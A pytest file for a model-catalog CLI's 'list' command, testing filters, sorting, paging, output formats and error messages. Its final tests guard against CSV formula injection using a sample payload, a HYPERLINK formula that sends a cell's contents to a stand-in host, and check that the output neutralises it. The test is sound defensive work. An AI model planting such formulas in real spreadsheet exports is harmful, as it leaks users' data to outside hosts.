"""`modelctl list`: filters, order, formats, and that what is left out is said."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import create_engine, inspect

from modelctl.core.models.query import COLUMNS
from modelctl.db.read import MODEL_COLUMNS
from modelctl.output.console import Look
from modelctl.output.format import csv_text
from tests.cli.conftest import Query
from tests.cli.shop import fill
from tests.conftest import Result, Run
from tests.databases import empty_database


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> str:
    with empty_database("sqlite", tmp_path_factory.mktemp("shop")) as found:
        fill(found)
        return found


@pytest.fixture
def listed(run, url) -> Callable[..., Result]:
    return lambda *argv, **kwargs: run("list", "--database", url, *argv, **kwargs)


def ids(result: Result) -> list[str]:
    assert result.code == 0, result.stderr
    return result.stdout.splitlines()


ALIVE = [
    "mirror/gpt-4o-mini",
    "mirror/twin",
    "openai/gpt-4o",
    "openai/gpt-4o-mini",
    "openai/o1-mini",
    "openai/text-embedding-3",
    "qwen/通义千问",
    "together/mistralai/Mixtral-8x7B",
]


def test_retired_models_are_left_out_and_counted(listed):
    result = listed("--format", "ids")
    assert ids(result) == ALIVE
    assert result.stderr == "8 models; left out: 1 retired (--all shows them)\n"
    assert "openai/gpt-3.5-turbo" in ids(listed("--format", "ids", "--all"))
    assert ids(listed("--format", "ids", "--status", "retired")) == ["openai/gpt-3.5-turbo"]


FILTERS = [
    (("--provider", "openai", "--provider", "qwen"), [each for each in ALIVE if each[0] in "oq"]),
    (("--status", "preview", "--status", "deprecated"), ["openai/o1-mini", "openai/text-embedding-3"]),
    (("--type", "embedding"), ["openai/text-embedding-3"]),
    (("--capability", "vision"), ["openai/gpt-4o", "openai/gpt-4o-mini"]),
    (("--capability", "vision", "--capability", "tools"), ["openai/gpt-4o"]),
    (("--tag", "smart", "--tag", "latest"), ["openai/gpt-4o"]),
    (("--tier", "free"), ["together/mistralai/Mixtral-8x7B"]),
    (("--max-input-price", "0.15", "--type", "chat"), ["openai/gpt-4o-mini", "together/mistralai/Mixtral-8x7B"]),
    (("--max-output-price", "0"), ["together/mistralai/Mixtral-8x7B"]),
    (("--min-input-price", "2.5", "--min-output-price", "10"), ["openai/gpt-4o"]),
    (("--min-context", "128000"), ["openai/gpt-4o", "openai/gpt-4o-mini"]),
    (("--recommended",), ["openai/gpt-4o"]),
    (("--missing", "display_name", "--missing", "tags", "--type", "embedding"), ["openai/text-embedding-3"]),
    (("--search", "GPT-4O-LATEST"), ["openai/gpt-4o"]),
    (("--search", "通义"), ["qwen/通义千问"]),
    (("--disabled", "--provider", "openai"), ["openai/o1-mini"]),
    (("--enabled", "--provider", "openai", "--type", "chat"), ["openai/gpt-4o", "openai/gpt-4o-mini"]),
    (("--limit", "1"), ["mirror/gpt-4o-mini"]),
]


@pytest.mark.parametrize(("argv", "expected"), FILTERS, ids=" ".join)
def test_filters(listed, argv, expected):
    assert ids(listed("--format", "ids", *argv)) == expected


@pytest.mark.parametrize("argv", [argv for argv, _ in FILTERS if "--limit" not in argv], ids=" ".join)
@pytest.mark.parametrize("format", ["jsonl", "csv", "ids"])
def test_a_short_list_is_the_beginning_of_the_whole_one(listed, argv, format):
    argv = (*argv, "--sort", "-tier,context_window", "--format", format)
    lines = 2 + (format == "csv")
    assert listed(*argv, "--limit", "2").stdout.splitlines() == listed(*argv).stdout.splitlines()[:lines]


@pytest.mark.parametrize("format", ["table", "markdown", "json", "jsonl", "csv", "ids"])
@pytest.mark.parametrize("columns", [(), ("--columns", "status,protected"), ("--columns", "model_id,family")], ids=str)
def test_a_limit_that_nothing_reaches_changes_nothing(listed, format, columns):
    argv = ("--format", format, *columns)
    assert listed(*argv, "--limit", "100") == listed(*argv)


def test_an_unknown_fact_is_neither_yes_nor_no_and_is_counted(listed):
    result = listed("--format", "ids", "--capability", "tools", "--provider", "openai")
    assert ids(result) == ["openai/gpt-4o"]
    assert "2 for which a fact that was asked for is unknown" in result.stderr


@pytest.mark.parametrize(
    ("order", "first", "last"),
    [
        ("input_price_per_mtok", "together/mistralai/Mixtral-8x7B", "openai/o1-mini"),
        ("-input_price_per_mtok", "qwen/通义千问", "openai/o1-mini"),
        ("-provider,model_id", "together/mistralai/Mixtral-8x7B", "mirror/twin"),
        ("type,-model_id", "qwen/通义千问", "openai/text-embedding-3"),
        ("retires_on", "openai/o1-mini", "together/mistralai/Mixtral-8x7B"),
    ],
)
def test_order_with_unknown_last(listed, order, first, last):
    found = ids(listed("--format", "ids", "--sort", order))
    assert (found[0], found[-1]) == (first, last)


def test_json_has_exactly_the_columns_of_the_table(listed, url):
    found = json.loads(listed("--json").stdout)
    in_database = [column["name"] for column in inspect(create_engine(url)).get_columns("ai_models")]
    assert list(found[0]) == list(COLUMNS) == list(MODEL_COLUMNS)
    assert sorted(in_database) == sorted(COLUMNS)  # a column that a later version adds stands last in its table


def test_json_prices_are_exact_numbers_and_unknown_is_null(listed):
    text = listed("--json", "--all").stdout
    by_id = {each["model_id"]: each for each in json.loads(text, parse_float=Decimal)}
    assert by_id["text-embedding-3"]["input_price_per_mtok"] == Decimal("0.000000005")
    assert by_id["gpt-4o"]["input_price_per_mtok"] == Decimal("2.5")
    assert by_id["mistralai/Mixtral-8x7B"]["input_price_per_mtok"] == 0
    assert by_id["o1-mini"]["input_price_per_mtok"] is None
    assert by_id["gpt-4o"]["tags"] == ["smart", "latest"]
    assert by_id["gpt-4o"]["is_enabled"] is True
    assert by_id["gpt-4o"]["created_at"] == "2026-11-21T12:00:00Z"


def test_json_lines_and_columns(listed):
    result = listed("--format", "jsonl", "--columns", "model_id,vision", "--provider", "openai", "--limit", "2")
    assert [json.loads(line) for line in result.stdout.splitlines()] == [
        {"model_id": "gpt-4o", "vision": True},
        {"model_id": "gpt-4o-mini", "vision": True},
    ]
    assert result.stderr == (
        "the first 2 of 4 models (the next page: --after openai/gpt-4o-mini); left out: 1 retired (--all shows them)\n"
    )


def test_pages_of_a_list_are_the_whole_list(listed):
    first = ids(listed("--format", "ids", "--limit", "3"))
    after = ids(listed("--format", "ids", "--limit", "3", "--after", first[-1]))
    rest = listed("--format", "ids", "--offset", "6")
    assert first + after + ids(rest) == ALIVE
    assert rest.stderr.startswith("2 of 8 models; left out")
    assert listed("--after", "openai/nope").code == 2


def test_the_columns_are_listed_with_what_they_mean(run):
    told = run("list", "--columns", "help").stdout
    assert [line.split()[0] for line in told.splitlines()][: len(COLUMNS)] == list(COLUMNS)
    assert "context_window" in told
    assert "tokens" in told
    as_json = json.loads(run("list", "--columns", "help", "--json").stdout)
    assert list(as_json["columns"])[: len(COLUMNS)] == list(COLUMNS)


def test_csv_is_what_a_spreadsheet_reads(listed):
    rows = list(csv.DictReader(io.StringIO(listed("--format", "csv").stdout)))
    assert list(rows[0]) == list(COLUMNS)
    by_id = {each["model_id"]: each for each in rows}
    assert by_id["text-embedding-3"]["input_price_per_mtok"] == "0.000000005"
    assert by_id["gpt-4o"]["tags"] == "smart;latest"
    assert (by_id["gpt-4o"]["vision"], by_id["o1-mini"]["vision"]) == ("true", "")
    assert by_id["gpt-4o"]["context_window"] == "128000"


def test_the_piped_table_is_complete_and_plain(listed):
    lines = listed().stdout.splitlines()
    assert lines[0].split() == [
        *(
            "model",
            "status",
            "type",
            "context",
            "max",
            "output",
            "input/mtok",
            "output/mtok",
            "retires",
            "on",
            "enabled",
        ),
    ]
    assert "openai/gpt-4o                    active      chat       128,000      16,384" in lines[3]
    assert "CNY 4" in next(line for line in lines if line.startswith("qwen"))
    assert not any(line.endswith(" ") or "\x1b" in line for line in lines)


def test_columns_for_which_a_terminal_is_too_narrow_are_named(listed, monkeypatch):
    def terminal(_stream, environ):
        return Look(width=int(environ["COLUMNS"]))

    monkeypatch.setattr("modelctl.output.console.look_of", terminal)
    result = listed(env={"COLUMNS": "60"})
    assert result.stdout.splitlines()[0].split() == ["model", "input/mtok", "output/mtok"]
    assert max(map(len, result.stdout.splitlines())) <= 60
    left_out = "status, type, context_window, max_output_tokens, retires_on, is_enabled"
    assert f"not shown: {left_out}; " in result.stderr
    narrow = listed(env={"COLUMNS": "20"}).stderr
    assert (
        " ids shortened (--format ids prints them in full); the terminal is too narrow, --columns chooses\n" in narrow
    )
    assert "not shown" not in listed(env={"COLUMNS": "300"}).stderr
    assert "not shown: type" in listed("--columns", "model_id,type", env={"COLUMNS": "20"}).stderr


def test_named_columns_keep_their_names(listed):
    text = listed("--columns", "id,model_id,vision,tags", "--limit", "3", "--provider", "openai").stdout
    assert text.splitlines()[:2] == [
        "id  model_id     vision  tags",
        " 2  gpt-4o       yes     smart, latest",
    ]


def test_markdown(listed):
    header, rule, *rows = listed("--format", "markdown", "--columns", "model_id,context_window").stdout.splitlines()
    assert (header, rule) == ("| model\\_id | context\\_window |", "| --- | ---: |")
    assert len(rows) == len(ALIVE)


def test_nothing_found_is_said_and_is_no_error(listed):
    for argv, stdout in (((), ""), (("--json",), "[]\n"), (("--format", "ids"), ""), (("--format", "jsonl"), "")):
        result = listed("--search", "zzz", *argv)
        assert (result.code, result.stdout) == (0, stdout)
        assert result.stderr == "no model matches these filters\n"
    assert listed("--search", "zzz", "--json", "--quiet").stderr == ""


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (("--provider", "opnai"), "there is no provider 'opnai'; did you mean openai?"),
        (("--capability", "visoin"), "there is no capability 'visoin'; did you mean vision?"),
        (("--columns", "modelid"), "there is no column 'modelid'; did you mean model_id?"),
        (("--sort", "-price"), "there is no column 'price'; did you mean input_price_per_mtok"),
        (("--missing", "context"), "there is no column 'context'; did you mean context_window?"),
        (("--max-input-price", "cheap"), "--max-input-price: 'cheap' is not an amount"),
        (("--max-input-price", "-1"), "'-1' is not an amount"),
        (("--min-output-price", "nan"), "'nan' is not an amount"),
        (("--status", "dead"), "'dead'"),
        (("--limit", "0"), "--limit: "),
    ],
    ids=" ".join,
)
def test_what_there_is_not_is_wrong_usage_with_a_suggestion(listed, argv, message):
    result = listed(*argv)
    assert (result.code, result.stdout) == (2, "")
    assert message in result.stderr


def test_no_database_yet_and_an_empty_one(run, sqlite_url):
    result = run("list", "--database", sqlite_url, "--json")
    assert (result.code, result.stdout) == (1, "")
    assert "run `modelctl sync`" in result.stderr
    fill(sqlite_url, [])
    result = run("list", "--database", sqlite_url, "--json")
    assert (result.code, result.stdout) == (0, "[]\n")
    assert result.stderr == "the table is empty; run `modelctl sync` to fill it\n"


def test_every_database_lists_the_same(run, database_url, listed):
    fill(database_url)
    for argv in (("--format", "ids"), ("--sort", "-provider", "--format", "csv", "--columns", ",".join(COLUMNS[1:]))):
        assert run("list", "--database", database_url, *argv) == listed(*argv)


def test_a_list_loads_no_sdk_and_no_migrations(url):
    import subprocess
    import sys

    code = "import sys; from modelctl.cli.main import main; main(sys.argv[1:]); print(*sys.modules, file=sys.stderr)"
    done = subprocess.run(
        [sys.executable, "-c", code, "list", "--database", url], capture_output=True, text=True, check=True
    )
    loaded = set(done.stderr.split())
    assert not loaded & {"alembic", "openai", "anthropic", "google.genai", "replicate", "rich.console", "httpx"}


@given(text=st.text(st.sampled_from("=+-@\t\r\n ;,'\"1.e()Aé|!"), max_size=12))
def test_no_field_of_csv_is_a_formula(text: str) -> None:
    told = csv_text(text)
    assert told in (text, f"'{text}")
    assert told[:1] not in tuple("=@\t\r")
    if told[:1] in ("+", "-"):
        float(told)


def test_a_spreadsheet_runs_nothing_that_a_name_holds(run: Run, sqlite_url: str, query: Query) -> None:
    assert run("sync", "xai", "--source", "catalog", "--database", sqlite_url).code == 0
    formula = '=HYPERLINK("http://x.test?"&A1)'
    query(sqlite_url, "UPDATE ai_models SET display_name = :name WHERE model_id = 'grok-4.5'", name=formula)
    argv = ("list", "xai", "--database", sqlite_url, "--columns", "model_id,display_name", "--format")
    rows = dict(csv.reader(run(*argv, "csv").stdout.splitlines()))
    assert rows["grok-4.5"] == f"'{formula}"
    listed = {each["model_id"]: each["display_name"] for each in json.loads(run(*argv, "json").stdout)}
    assert listed["grok-4.5"] == formula
